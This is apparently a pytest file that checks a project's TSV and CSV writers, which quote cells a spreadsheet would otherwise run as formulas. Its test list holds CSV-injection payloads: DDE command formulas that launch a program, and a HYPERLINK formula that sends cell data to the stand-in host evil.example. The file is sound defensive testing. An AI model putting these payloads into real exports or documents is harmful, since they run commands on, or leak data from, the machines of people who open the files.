"""Names and replies that a spreadsheet would run, in every TSV and CSV that is written."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sciriff import spreadsheet
from sciriff.cli.sql import spell
from sciriff.results.query import Answer
from sciriff.results.tables import MetricRow, summary_table, task_table
from sciriff.scoring.tasks import SUMMARY_COLUMNS

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "-1+1",
    "+A1",
    "=1,=2\n=3",
]


def would_run(cell: str) -> bool:
    """Whether a spreadsheet takes an unquoted cell for a formula."""
    is_number = re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?%?", cell, re.IGNORECASE)
    return bool(re.match(r"\s*[=+\-@＝＋－＠]", cell)) and not is_number and cell != "-"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_models_name_is_text(formula: str) -> None:
    column = SUMMARY_COLUMNS[0]
    summary = summary_table([MetricRow(formula, column.task, "summary", column.metric, 0.5)])
    table = task_table([MetricRow(formula, column.task, "flat", column.metric, -0.5)])
    for text in (summary, table):
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter="\t") for cell in row]
        assert f"'{formula}" in cells
        assert not any(map(would_run, cells))
    assert "-50.00" in table


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_of_a_query_is_text(formula: str) -> None:
    text = spell(Answer(["=header", "n"], [(formula, -1.5), ("plain", 2)]), "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["'=header", "n"], [f"'{formula}", "-1.5"], ["plain", "2"]]


def test_values_of_all_kinds_stay() -> None:
    day = datetime.date(2026, 1, 2)
    row = ["-1.5", "+3", "-.5e-3", "-5%", "-", "", None, -7, Decimal("-1.5"), 1e-9, True, day, "a-b", "5'-UTR", "x=y"]
    assert spreadsheet.lines([row], ",") == "-1.5,+3,-.5e-3,-5%,-,,,-7,-1.5,1e-09,True,2026-01-02,a-b,5'-UTR,x=y\n"


@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=2), min_size=1
    )
)
def test_what_is_written_is_read_back(rows: list[list[str]]) -> None:
    for separator in "\t,":
        text = spreadsheet.lines(rows, separator)
        read = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
        assert read == [[spreadsheet.inert(cell) for cell in row] for row in rows]
        assert not any(would_run(cell) for row in read for cell in row)
